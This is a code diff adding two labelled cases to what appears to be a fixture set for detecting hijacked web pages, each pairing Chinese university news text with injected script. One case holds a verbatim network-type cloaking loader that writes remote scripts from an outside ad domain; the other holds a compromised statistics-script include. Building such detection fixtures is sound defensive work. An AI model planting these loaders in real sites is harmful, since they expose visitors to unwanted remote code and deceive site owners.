@@ -236,6 +236,28 @@ add(url="http://www.hxnews.com/news/fj/fz/202112/16/2039402.shtml", shell=0, lan
            "福州大学附属实验学校校长黄榕炜告诉记者,为贯彻落实“双减”政策,丰富四大校园内涵(书香校园、运动校园、科创校园、艺术校园),增强学生体质,此次体育节活动,校方根据不同年龄段孩子的特点,开设1~2年段亲子趣味比赛、3~9年段田赛和竞赛、教师比赛等30多个项目,共计2700多名师生及家长参与。学校希望通过举办体育节活动,营造运动校园的氛围,推动学生养成每日锻炼的习惯,让同学们快乐学习、健康运动、幸福成长。"],
     origin="composite: page text from search tool (corpus pages) + referrer-check iframe overlay script from a public notes file (find_string id 20386167188; verbatim)")
 
+WAP = ("<script>\n/* 版本3.0 20200801.2244代码 */\n/* 126接口 */\nvar _c_top_001=[\"<script type='text/javascript' src='https://ip.ws.126.net/ipquery'></script>\"];\n"
+ "/* 指定联网类型代码003 wap */\nvar connection = navigator.connection||navigator.mozConnection||navigator.webkitConnection||{tyep:'unknown'};\nvar type_text = ['unknown','ethernet','wifi','2g','3g','4g','5g','none'];\nmtype = connection.type;\n"
+ "var _c_wap_003=[\"<script type='text/javascript'>if(/wifi|wi-fi|wlan|w-lan/i.test(mtype)){document.write(_c_wap_011+_c_wap_004+_c_tongji_002);}else if(/cellular|5g|4g|3g|2g/i.test(mtype)){document.write(_c_wap_005);}else{document.write(_c_wap_005);}</script>\"];\n"
+ "/* 广告代码011 wap */\nvar _c_wap_011=[\"<body><script id='mob' type='text/javascript' charset='utf-8' src='https://www.zhenxunkeji.com/d.php?pid=3246'></script> <script id='mob' type='text/javascript' charset='utf-8' src='https://www.zhenxunkeji.com/x.php?pid=3246'></script></body>\"];\n</script>")
+add(url="https://xiaodihezuo.sqzy.edu.cn/2025/0905/c298a32965/page.htm", shell=1, lang="zh", hijacked=True, kind="real-injection-in-real-page",
+    injections=["network-type-cloaking-ad-loader"], spam=["www.zhenxunkeji.com/d.php"], tail=WAP,
+    page_title="校地合作处召开2025年秋季学期工作会议", h1="校地合作处召开2025年秋季学期工作会议", title="校地合作处召开2025年秋季学期工作会议",
+    paras=["9月5日上午,校地合作处在明德楼506办公室召开了2025年秋季学期工作会议。校地合作处处长冯先强,副处长屈宽生及处室其他全体成员参加了会议。会议由冯先强主持。",
+           "冯先强首先传达了学校2025年第8次党委理论学习中心组集体学习(扩大)会议以及2025年秋季学期工作会议精神,然后对校地合作处暑假工作做了总结。接着对校地合作处2025年下半年工作计划做了详细安排,明确了工作目标,提出了工作任务,对近期部门校企合作产教融合工作做了详细安排。最后对处室全体人员强调了工作纪律,要求大家工作中应具有创新意识、大局意识、担当意识,同心协力、踔厉奋发,推动我校校地合作再上新台阶。",
+           "本次会议的召开,为校地合作处清晰指明了新学期的工作航向与核心要点,有力提振了部门全体人员的责任担当与使命自觉,为新学期各项工作的规范推进、高效落实筑牢了根基。"],
+    origin="composite: page text from search tool (corpus pages) + network-type cloaking ad loader (wap variant) from a public committed file (find_string id 19058903824; verbatim lines, other branches left out)")
+
+STAT = "<script language=\"javascript\" src=\"http://phpstat.cntcm.com.cn/phpstat/count/abceffgh/abceffgh.js\"></script>"
+add(url="https://dj.gdhsc.edu.cn/info/1070/2258.htm", shell=0, lang="zh", hijacked=True, kind="real-injection-in-real-page",
+    injections=["hijacked-third-party-script"], spam=["phpstat.cntcm.com.cn/phpstat/count/abceffgh/abceffgh.js"], tail=STAT,
+    page_title="敞开心扉,交流无界", h1="敞开心扉,交流无界", title="敞开心扉,交流无界", crumb="当前位置: 首页 >> 群团工作 >> 关工委 >> 正文",
+    byline="发布时间:2014年10月23日", date="2014-10-23",
+    paras=["——香港大学专业进修学院师生交流团交流活动",
+           "毕业季六月,花儿绽放,青春飞扬。2014年6月17日,香港大学专业进修学院师生交流团抵达我院,与我院师生代表进行了为期一天的交流活动。我院郭银华副院长、党委苏宁书记、团委刘苗副书记、华商合作交流中心暨港澳台办公室刘芳芳主任、会计系学工助理许娜老师、我院的两位合作交流中心人员及学生代表等人参与了本次交流活动。",
+           "上午九点,一天的交流活动以我院许娜老师及学生代表在门口的热情接待拉开序幕。来自香港大学专业进修学院的24位师生首先参观了我院校史馆。我院讲解员用粤语欢迎了远道而来的朋友,为他们一一介绍我院建立以来的一系列成就及校史馆展示的各种实践活动的相片,让香港师生倍感亲切。"],
+    origin="composite: page text from search tool (corpus pages) + the compromised statistics-script include named in uBlockOrigin/uAssets PR #10997 (its hex iframe payload is rc24 case jyt.guizhou)")
+
 # ---------------- legit ----------------
 add(url="https://exmoo.com/article/32066.html", shell=1, lang="zh-hant", legit=True,
     page_title="本澳賭收連續九個月上升", h1="本澳賭收連續九個月上升", title=None,
